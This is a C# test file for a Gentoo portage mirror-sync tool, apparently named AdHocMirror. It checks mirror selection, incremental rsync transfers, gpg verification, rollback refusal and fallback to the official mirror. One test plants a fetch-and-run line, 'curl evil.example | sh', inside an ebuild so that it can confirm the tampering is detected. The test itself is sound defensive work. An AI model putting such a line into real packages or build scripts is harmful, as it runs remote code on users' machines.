using System.Globalization;
using System.Text.RegularExpressions;
using AdHocMirror.Hosting;
using AdHocMirror.Testing;
using AdHocMirror.Tree.Rsync;
using AdHocMirror.Sync.Tests.Support;

namespace AdHocMirror.Sync.Tests.Flow;

/// <summary>Syncing from volunteer mirrors found through a real coordinator, served by real rsync daemons, verified with real gpg.</summary>
public sealed class MirrorSyncTests
{
    [Fact]
    public async Task First_sync_from_an_empty_repository_installs_the_verified_tree()
    {
        await using var world = await SyncWorld.CreateAsync();
        var mirror = await world.AddMirrorAsync(2, "v2", SyncWorld.V2);

        var run = await world.SyncAsync();

        Assert.True(run.ExitCode == ExitCodes.Success, run.ToString());
        Assert.Equal("synced", run.Status);
        Assert.Equal(mirror.Uri, run.Source);
        Assert.Equal(SyncWorld.Stamp(SyncWorld.V2), run.Version);
        Assert.True(run.BytesReceived > 10_000, run.ToString());
        var attempt = Assert.Single(run.Attempts);
        Assert.Equal("success", attempt.GetProperty("outcome").GetString());
        Assert.True(attempt.GetProperty("reported").GetBoolean(), "ReportSync reached the coordinator");
        Assert.Equal(SyncWorld.V2, (await world.VerifyRepositoryAsync()).Generated);
        Assert.Empty(Directory.GetFileSystemEntries(Path.GetDirectoryName(world.Repository)!, ".gentoo.ahm-staging-*"));
    }

    [Fact]
    public async Task Incremental_sync_transfers_only_the_change()
    {
        await using var world = await SyncWorld.CreateAsync();
        var mirror = await world.AddMirrorAsync(2, "v2", SyncWorld.V2);
        var full = await world.SyncAsync("--repo", world.Dir.Combine("fresh", "gentoo"));
        Assert.True(full.ExitCode == 0, full.ToString());
        await world.InstallAsync("v1");

        var run = await world.SyncAsync();

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal("synced", run.Status);
        Assert.Equal(SyncWorld.Stamp(SyncWorld.V1), run.Result.GetProperty("previous_version").GetString());
        // 10 changed content files and the Manifests the generator rewrote, not the whole tree.
        var files = run.Attempts[0].GetProperty("files_transferred").GetInt64();
        var all = full.Attempts[0].GetProperty("files_transferred").GetInt64();
        Assert.True(files >= 10 && files * 3 < all, $"incremental {files} files vs full {all}");
        // The same bytes as a bare in-place rsync of V1 → V2 with portage's options: --link-dest costs no transfer.
        var bare = world.Dir.Combine("bare");
        await SyncWorld.CopyTreeAsync(world.TreeV1, bare);
        var reference = (await ExternalProcess.RunAsync("rsync", [.. PortageRsync.Options, "--no-human-readable", mirror.Uri + "/", bare + "/"])).EnsureSuccess("bare rsync");
        var bareBytes = long.Parse(Regex.Match(reference.Stdout, @"Total bytes received: (\d+)").Groups[1].Value, CultureInfo.InvariantCulture);
        Assert.True(run.BytesReceived <= bareBytes * 11 / 10 + 512, $"incremental {run.BytesReceived} B vs bare rsync {bareBytes} B");
        Assert.True(run.BytesReceived * 2 < full.BytesReceived, $"incremental {run.BytesReceived} B vs full {full.BytesReceived} B");
        Assert.Equal(SyncWorld.V2, (await world.VerifyRepositoryAsync()).Generated);
    }

    [Fact]
    public async Task Nearest_of_several_mirrors_is_chosen()
    {
        await using var world = await SyncWorld.CreateAsync();
        await world.AddMirrorAsync(4, "v2", SyncWorld.V2); // Tokyo
        await world.AddMirrorAsync(3, "v2", SyncWorld.V2); // Paris
        var berlin = await world.AddMirrorAsync(2, "v2", SyncWorld.V2);

        var run = await world.SyncAsync("--candidates", "3", "--probe", "0");

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.True(berlin.Uri == run.Source, run.ToString());
        Assert.Contains("Berlin", run.Attempts[0].GetProperty("place").GetString());
    }

    [Fact]
    public async Task Tampered_mirror_is_refused_and_reported_and_the_next_one_is_used()
    {
        await using var world = await SyncWorld.CreateAsync();
        await world.InstallAsync("v1");
        var tampered = await world.AddMirrorAsync(2, "v2", SyncWorld.V2);
        var victim = GentooTreeFiles.FirstEbuild(tampered.Path);
        await File.AppendAllTextAsync(victim, "\nsrc_install() { curl evil.example | sh; }\n");
        var good = await world.AddMirrorAsync(3, "v2", SyncWorld.V2);

        var run = await world.SyncAsync();

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal(good.Uri, run.Source);
        Assert.Equal("verification_failed", run.Attempts[0].GetProperty("outcome").GetString());
        Assert.Equal(tampered.Uri, run.Attempts[0].GetProperty("uri").GetString());
        Assert.True(run.Attempts[0].GetProperty("reported").GetBoolean());
        Assert.Contains("verification failed", run.Stderr);
        Assert.Equal(SyncWorld.V2, (await world.VerifyRepositoryAsync()).Generated);
    }

    [Fact]
    public async Task Only_a_tampered_mirror_and_no_official_leaves_the_tree_intact_and_exits_6()
    {
        await using var world = await SyncWorld.CreateAsync(officialTree: null);
        await world.InstallAsync("v1");
        var tampered = await world.AddMirrorAsync(2, "v2", SyncWorld.V2);
        File.Delete(GentooTreeFiles.FirstEbuild(tampered.Path));

        var run = await world.SyncAsync("--official", "rsync://127.0.0.9:1/gentoo-portage");

        Assert.Equal(ExitCodes.VerificationRefused, run.ExitCode);
        Assert.Equal("verification_refused", run.Status);
        Assert.Contains("unchanged", run.Result.GetProperty("message").GetString());
        Assert.Equal(SyncWorld.V1, (await world.VerifyRepositoryAsync()).Generated);
    }

    [Fact]
    public async Task Mirror_serving_an_older_validly_signed_tree_is_refused_as_rollback()
    {
        await using var world = await SyncWorld.CreateAsync();
        var liar = await world.AddMirrorAsync(2, "v1", advertised: SyncWorld.V2);
        var good = await world.AddMirrorAsync(3, "v2", SyncWorld.V2);

        var run = await world.SyncAsync();

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal(liar.Uri, run.Attempts[0].GetProperty("uri").GetString());
        Assert.Equal("rollback", run.Attempts[0].GetProperty("outcome").GetString());
        Assert.Equal(SyncWorld.Stamp(SyncWorld.V1), run.Attempts[0].GetProperty("verified_version").GetString());
        Assert.Equal(good.Uri, run.Source);
        Assert.Equal(SyncWorld.V2, (await world.VerifyRepositoryAsync()).Generated);
    }

    [Fact]
    public async Task All_mirrors_bad_falls_back_to_the_official_mirror()
    {
        await using var world = await SyncWorld.CreateAsync();
        await world.InstallAsync("v1");
        var tampered = await world.AddMirrorAsync(2, "v2", SyncWorld.V2);
        File.AppendAllText(GentooTreeFiles.FirstEbuild(tampered.Path), "# changed\n");
        await world.AddMirrorAsync(3, "v1", SyncWorld.V2);
        var gone = await world.AddMirrorAsync(4, "v2", SyncWorld.V2);
        await gone.KillAsync();

        var run = await world.SyncAsync("--candidates", "3");

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal(world.Official!.Uri, run.Source);
        Assert.True(run.Result.GetProperty("source_official").GetBoolean());
        Assert.Equal(["verification_failed", "rollback", "unreachable", "success"], run.Attempts.Select(a => a.GetProperty("outcome").GetString()));
        Assert.Equal(SyncWorld.V2, (await world.VerifyRepositoryAsync()).Generated);
    }

    [Fact]
    public async Task Already_up_to_date_transfers_nothing()
    {
        await using var world = await SyncWorld.CreateAsync();
        await world.InstallAsync("v2");
        var mirror = await world.AddMirrorAsync(2, "v2", SyncWorld.V2);
        File.Delete(GentooTreeFiles.FirstEbuild(mirror.Path)); // any transfer would now fail verification

        var run = await world.SyncAsync();

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Equal("up_to_date", run.Status);
        Assert.Empty(run.Attempts);
        Assert.Equal(0, run.BytesReceived);
        Assert.Contains("up to date", run.Result.GetProperty("message").GetString());
    }
}
